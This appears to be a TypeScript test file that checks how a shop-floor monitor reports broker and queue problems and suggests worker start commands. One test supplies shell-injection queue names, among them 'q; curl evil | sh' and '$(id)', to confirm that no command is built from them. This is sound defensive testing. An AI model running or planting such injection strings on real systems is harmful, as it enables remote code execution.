import { expect, it } from 'vitest';
import { NOTHING_KNOWN, type QueueDepth, type ShopStatus } from '../../../../../lib/shop/floor/shop-status.js';
import { troublesOf } from '../../../../../lib/shop/floor/troubles.js';

const queue = (more: Partial<QueueDepth>): QueueDepth => ({
  name: 'worker01_queue',
  role: 'worker',
  present: true,
  waiting: 0,
  consumers: 1,
  ...more,
});
const keys = (status: Partial<ShopStatus>) =>
  troublesOf({ ...NOTHING_KNOWN, connected: true, ...status }).map(({ key }) => key);

it('there is none where all is well, or nobody waits', () => {
  expect(keys({ queues: [queue({}), queue({ waiting: 9 }), queue({ consumers: 0 })] })).toEqual([]);
  expect(keys({ queues: [queue({ role: 'bills', waiting: 9, consumers: 0 })] })).toEqual([]);
  expect(keys({ queues: [queue({ present: false, consumers: 0 })] })).toEqual([]);
});

it('events that wait for a worker who is not there are named, with the command that helps', () => {
  const queues = [queue({ waiting: 1, consumers: 0 }), queue({ name: 'eu', waiting: 12, consumers: 0 })];
  const status = { ...NOTHING_KNOWN, connected: true, queues };
  expect(troublesOf(status).map(({ what, command }) => [what, command])).toEqual([
    ['1 event waits for worker01, and no worker is there.', 'npx run_worker --id worker01 --queue worker01_queue'],
    ['12 events wait for eu, and no worker is there.', 'npx run_worker --id eu --queue eu'],
  ]);
});

it('a broker that takes no messages is one, in its own words', () => {
  const [trouble] = troublesOf({ ...NOTHING_KNOWN, connected: true, alarm: 'low on disk' });
  expect(trouble?.what).toBe('The broker is low on disk, and accepts no messages.');
});

it('no command is made of a name that a shell would act on', () => {
  for (const name of ['q; curl evil | sh', '$(id)', '--amqp-url=x', 'q\nid', '']) {
    const [trouble] = troublesOf({
      ...NOTHING_KNOWN,
      connected: true,
      queues: [queue({ name, waiting: 1, consumers: 0 })],
    });
    expect(trouble?.what).toContain('no worker is there');
    expect(trouble).not.toHaveProperty('command');
  }
});

it('refused events that the broker does not move are named', () => {
  expect(keys({ missingLetters: 2 })).toEqual(['dead letters']);
});

it('without a broker that is all there is to say', () => {
  expect(keys({ connected: false, missingLetters: 2, queues: [queue({ waiting: 1, consumers: 0 })] })).toEqual([
    'broker',
  ]);
});
